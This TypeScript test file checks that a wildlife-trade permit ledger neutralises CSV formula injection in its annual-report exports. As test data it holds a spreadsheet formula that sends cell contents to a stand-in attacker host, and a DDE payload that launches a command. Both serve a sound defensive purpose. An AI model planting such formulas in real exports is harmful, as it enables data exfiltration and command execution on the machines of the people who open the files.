/**
 * Issue 16, finding 5: a species name `=HYPERLINK("http://evil.example/?"&A1,"x")`
 * from one authority reached another authority's annual report CSV as a
 * live formula. Every text cell that a spreadsheet would run is now
 * neutralised (OWASP, CSV injection): prefixed with a single quote and quoted.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { annualReport, annualReportCsv, csvCell, toCsv, type Ledger } from '../src/index.js'
import { chPermit, openLedger, tempDir } from './kit.js'
import { csvFields } from './trade-database.js'

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


/** A cell a spreadsheet would evaluate: it starts with a formula character. */
const live = (field: string): boolean => /^[=+\-@\t\r]/.test(field)

describe('CSV cells are never formulas', () => {
  it('neutralises a text cell starting with = + - @ tab or carriage return, and quotes it', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', EVIL, '=cmd|\' /C calc\'!A0']) {
      const cell = csvCell(s)
      expect(cell.startsWith('"\''), JSON.stringify(s)).toBe(true)
      const [field] = csvFields(cell)
      expect(field).toBe(`'${s}`)
      expect(live(field!)).toBe(false)
    }
  })

  it('leaves ordinary text and numbers as they were, quoting only what RFC 4180 needs', () => {
    expect(csvCell('Python regius')).toBe('Python regius')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('26CH000123')).toBe('26CH000123')
    expect(csvCell(-1.5)).toBe('-1.5') // a number is data, not a formula
    expect(csvCell(Number.NaN)).toBe('')
    expect(toCsv([['a', 1], ['=b', 2]])).toBe('a,1\n"\'=b",2\n')
  })

  describe('the annual report, with a species name from another authority', () => {
    let dirs: Array<ReturnType<typeof tempDir>>
    let ch: Ledger
    let th: Ledger
    beforeAll(async () => {
      dirs = [tempDir('ch'), tempDir('th')]
      ch = await openLedger('CH', dirs[0]!.path)
      th = await openLedger('TH', dirs[1]!.path)
      const p = chPermit('26CHX00001')
      p.lines[0]!.scientificName = EVIL
      p.lines[0]!.term = 'LIV'
      await ch.issue(p)
      await ch.endorse('CH', '26CHX00001', { lines: [{ line: 'A', quantity: 5, unit: 'PCS' }], port: 'CHZRH' })
      await ch.consume('CH', '26CHX00001', { lines: [{ line: 'A', quantity: 5, unit: 'PCS' }], port: 'THBKK' })
      await th.acceptEvents(await ch.eventsFrom('CH', 1)) // TH's replica of CH's log
    })
    afterAll(async () => { await ch.close(); await th.close(); for (const d of dirs) d.cleanup() })

    it('writes the replicated species name as text in the importer\'s report, never as a formula', async () => {
      const csv = annualReportCsv(await annualReport(th, 2026), 'imports')
      const lines = csv.trim().split('\n')
      expect(lines).toHaveLength(2)
      const head = csvFields(lines[0]!)
      const row = csvFields(lines[1]!)
      expect(row).toHaveLength(head.length)
      expect(row[head.indexOf('species_name')]).toBe(`'${EVIL}`)
      expect(row[head.indexOf('export_permit')]).toBe('26CHX00001')
      expect(row.filter(live)).toEqual([])
      expect(csv).not.toContain(`,${EVIL}`)
    })

    it('and in the exporter\'s own report', async () => {
      const row = csvFields(annualReportCsv(await annualReport(ch, 2026), 'exports').trim().split('\n')[1]!)
      expect(row.filter(live)).toEqual([])
      expect(row).toContain(`'${EVIL}`)
    })
  })
})
